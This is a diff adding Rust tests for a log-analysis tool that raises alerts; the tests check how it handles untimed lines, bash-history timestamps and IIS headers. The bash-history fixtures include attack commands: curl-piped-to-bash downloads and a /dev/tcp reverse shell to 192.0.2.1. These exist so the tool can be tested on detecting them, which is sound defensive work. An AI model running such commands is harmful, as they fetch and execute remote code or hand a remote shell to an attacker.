@@ -1,0 +1,102 @@
+//! Lines without a time, lines that only date or name others, and times that
+//! can be read in several ways: what a run makes of them.
+
+use std::fmt::Write as _;
+
+use crate::program::Home;
+
+fn guesses(n: usize, stamp: &str) -> String {
+    let mut out = String::new();
+    for i in 0..n {
+        let _ = writeln!(out, "{stamp}web1 sshd[{}]: Failed password for root from 203.0.113.9 port {i} ssh2", 100 + i);
+    }
+    out
+}
+
+#[test]
+fn lines_without_any_time_are_in_no_window() {
+    let home = Home::new();
+    let log = home.write("a.log", guesses(100, ""));
+    let (ran, doc) = home.summary(&["--no-store", &log, "--alerts", "al", "--events", "ev"]);
+    assert_eq!((&doc["records"], &doc["without_time"], &doc["alerts"]), (&100.into(), &100.into(), &0.into()), "{doc}");
+    assert!(doc["not_correlated"].as_u64().unwrap() >= 100);
+    assert!(doc["first_event"].is_null(), "{doc}");
+    assert!(home.objects("ev").iter().all(|e| e["time_quality"] == "unknown"));
+    assert!(ran.err.is_empty() || !ran.err.contains("panicked"));
+    // The same after a line with a time: a few lines may belong to it, a whole log does not.
+    let log = home.write("b.log", format!("Mar  2 09:00:00 web1 sshd[1]: Server listening\n{}", guesses(1000, "")));
+    let (_, doc) = home.summary(&["--no-store", &log]);
+    assert_eq!((&doc["carried_times"], &doc["without_time"]), (&256.into(), &744.into()), "{doc}");
+    // Before the first time of a log stands what belongs to it.
+    let log = home.write("c.log", format!("-- started --\n{}", guesses(20, "Mar  2 09:00:00 ")));
+    let (_, doc) = home.summary(&["--no-store", &log]);
+    assert_eq!((&doc["carried_times"], &doc["without_time"]), (&1.into(), &0.into()), "{doc}");
+    assert!(doc["alerts"].as_u64().unwrap() > 0);
+}
+
+#[test]
+fn a_year_makes_no_time_for_lines_without_one() {
+    let home = Home::new();
+    let log = home.write("h/.bash_history", "ls\ncurl http://192.0.2.1/x.sh | bash\nid\n");
+    let run = |year: &[&str]| {
+        let args = [&["--no-store", &*log, "--events", "ev", "--alerts", "al"], year].concat();
+        let (_, doc) = home.summary(&args);
+        assert_eq!(doc["without_time"], 3, "{doc}");
+        (home.objects("ev"), home.objects("al"))
+    };
+    let (events, alerts) = run(&[]);
+    assert_eq!(events[1]["event_type"], "process_start");
+    assert_eq!(alerts.len(), 1, "{alerts:?}");
+    assert!(alerts[0]["message"].as_str().unwrap().contains("time not known"), "{}", alerts[0]);
+    assert_eq!(run(&["--year", "2019"]).1, alerts, "the year of others dates nothing");
+    // Written at another time, read without what was remembered: the same alert.
+    let other = Home::new();
+    let copy = other.write("h/.bash_history", home.read("h/.bash_history"));
+    let file = std::fs::File::options().append(true).open(&copy).unwrap();
+    file.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000)).unwrap();
+    other.summary(&["--no-store", &copy, "--alerts", "al"]);
+    assert_eq!(other.objects("al")[0]["id"], alerts[0]["id"]);
+}
+
+#[test]
+fn commands_of_a_history_have_the_time_before_them() {
+    let home = Home::new();
+    let log = home.write(
+        "root/.bash_history",
+        "#1700000000\nwhoami\n#1700000100\ncurl -s http://192.0.2.1/x | sudo bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n",
+    );
+    let (_, doc) = home.summary(&["--no-store", &log, "--events", "ev", "--alerts", "al"]);
+    assert_eq!((&doc["records"], &doc["header_lines"], &doc["lines"]), (&3.into(), &2.into(), &5.into()), "{doc}");
+    let events = home.objects("ev");
+    assert_eq!(events.len(), 3, "headers are no events");
+    assert_eq!((&events[2]["timestamp"], &events[2]["user"]), (&"2023-11-14T22:15:00Z".into(), &"root".into()));
+    let rules: Vec<_> = home.objects("al").iter().map(|a| a["rule"].as_str().unwrap().to_owned()).collect();
+    assert!(rules.len() >= 2, "{rules:?}");
+}
+
+#[test]
+fn header_lines_are_counted_apart() {
+    let home = Home::new();
+    let header = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-03-02 09:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n";
+    let line = "2026-03-02 09:00:01 192.0.2.1 GET /a - 443 - 198.51.100.7 curl/8 200\n";
+    let log = home.write("u_ex.log", format!("{header}{line}{header}{line}{line}"));
+    let (_, doc) = home.summary(&["--no-store", &log, "--events", "ev"]);
+    assert_eq!((&doc["records"], &doc["parsed"], &doc["raw"]), (&3.into(), &3.into(), &0.into()), "{doc}");
+    assert_eq!(
+        (&doc["header_lines"], &doc["lines"], &doc["inputs"][0]["header_lines"]),
+        (&8.into(), &11.into(), &8.into())
+    );
+    assert_eq!(home.objects("ev").len(), 3);
+    let (_, doc) = home.summary(&["--no-store", &log, "--filter", "src_ip=192.0.2.200"]);
+    assert_eq!((&doc["filtered"], &doc["header_lines"]), (&3.into(), &8.into()), "{doc}");
+}
+
+#[test]
+fn a_range_of_time_leaves_out_what_has_none() {
+    let home = Home::new();
+    let timed = guesses(3, "Mar  2 09:00:00 ");
+    let log = home.write("a.log", format!("{timed}{}", guesses(300, "")));
+    let (_, doc) = home.summary(&["--no-store", "--year", "2026", "--from", "2026-01-01", &log, "--events", "ev"]);
+    assert_eq!((&doc["records"], &doc["filtered"]), (&303.into(), &44.into()), "{doc}");
+    assert_eq!(home.objects("ev").len(), 259);
+}
